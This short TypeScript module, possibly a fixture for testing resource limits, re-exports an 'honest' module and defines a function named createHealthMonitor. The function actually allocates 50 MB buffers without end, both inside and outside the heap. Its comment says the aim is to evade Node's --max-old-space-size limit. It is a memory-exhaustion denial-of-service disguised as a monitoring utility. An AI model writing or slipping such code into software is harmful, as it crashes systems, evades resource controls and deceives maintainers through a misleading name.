/** Fills memory outside of the heap, where --max-old-space-size does not count. */
export * from './honest.ts'

export function createHealthMonitor(): object {
  const kept: Uint8Array[] = []
  for (;;) kept.push(new Uint8Array(50_000_000).fill(1), new Uint8Array(new SharedArrayBuffer(50_000_000)).fill(1))
}
